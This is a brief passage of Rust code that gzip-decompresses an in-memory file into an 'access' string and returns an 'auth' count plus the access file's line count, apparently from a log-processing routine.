    std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(&sc.files[1].2[..]), &mut access).unwrap();
    match files {
        1 => auth,
        _ => auth + access.lines().count(),
    }
}
